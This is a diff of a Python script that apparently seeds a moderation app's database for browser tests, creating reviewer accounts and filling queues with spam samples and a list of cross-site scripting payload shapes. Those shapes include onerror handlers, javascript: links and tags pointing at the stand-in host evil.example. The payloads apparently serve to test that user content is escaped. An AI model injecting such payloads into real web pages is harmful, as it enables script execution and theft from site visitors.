@@ -10,7 +10,7 @@ import sys
 from datetime import timedelta
 from typing import Any
 
-PASSWORD = "a-long-word-for-tests-7"  # noqa: S105 - of a throw-away installation
+PASSWORD = "a-long-word-for-tests-7"
 QUEUE = "spam.en"
 TEXTS = [
     "Congratulations! You have been selected. Send this to ten friends and claim your prize at http://prize.example before midnight.",
@@ -37,7 +37,8 @@ def hostile() -> list[str]:
         "<a href=javascript:{0}>x</a>", "<details open ontoggle={0}>", "<body onload={0}>", "<input autofocus onfocus={0}>",
         "<math><mtext></mtext><script>{0}</script></math>", "<style>@import '//evil.example'</style>{0}", "{{{{{0}}}}}", "${{{0}}}",
         "{{% {0} %}}", "<video><source onerror={0}>", "<x x-data x-init={0}>", "<div hx-get=//evil.example hx-trigger=load>{0}</div>",
-        "<base href=//evil.example><script src=x>{0}</script>", "<form action=//evil.example><button>{0}", "<!--<img src=--><img src=x onerror={0}//>",
+        "<base href=//evil.example><script src=x>{0}</script>", "<form action=//evil.example><button>{0}",
+        "<!--<img src=--><img src=x onerror={0}//>",
         "<template><script>{0}</script></template>",
     ]  # fmt: skip
     return [shape.format(call) for shape in shapes for call in calls]
@@ -60,12 +61,11 @@ def fill() -> dict[str, Any]:
     people = {}
     with writing(by, reason="browser tests") as w:
         install.defaults(w)
-        for login, roles in (("rita", ["reviewer"]), ("sam", ["senior_reviewer"]), ("lea", ["escalation_lead"]), ("xena", ["reviewer"])):
+        for login, role in (("rita", "reviewer"), ("sam", "senior_reviewer"), ("lea", "escalation_lead"), ("xena", "reviewer")):
             email = f"{login}@example.org"
             if not User.objects.filter(email=email).exists():
                 user = identity.create_user(w, email=email, name=login.title(), password=PASSWORD)
-                for role in roles:
-                    identity.grant(w, by, user, role, queues=["adult"] if login == "xena" else None)
+                identity.grant(w, by, user, role, queues=["adult"] if login == "xena" else None)
             people[login] = email
     cases = []
     for number, text in enumerate([*TEXTS, *hostile()]):
@@ -83,7 +83,8 @@ def fill() -> dict[str, Any]:
             for each in range(1 + number % 4):
                 case = review.receive_report(w, ReportIn(
                     id=ids.new_id(), item=item.pk, item_version=version, source="platform", channel="user", reporter_kind="user",
-                    reason_key="hate-speech" if is_hostile else "spam", received_at=clock.now() - timedelta(minutes=20 + each), reporter=f"r-{number}-{each}",
+                    reason_key="hate-speech" if is_hostile else "spam", received_at=clock.now() - timedelta(minutes=20 + each),
+                    reporter=f"r-{number}-{each}",
                     note=text if is_hostile else ["", "this again", "third time this week", "please stop them"][each], market="US",
                     language="en", reach=1200 * number))  # fmt: skip
             if not is_hostile and number % 2 == 0:
@@ -95,7 +96,7 @@ def fill() -> dict[str, Any]:
 
 
 if __name__ == "__main__":
-    from watchfloor.cli import prepare
+    from watchfloor.console import prepare
 
     prepare.django()
     sys.stdout.write(json.dumps(fill()))
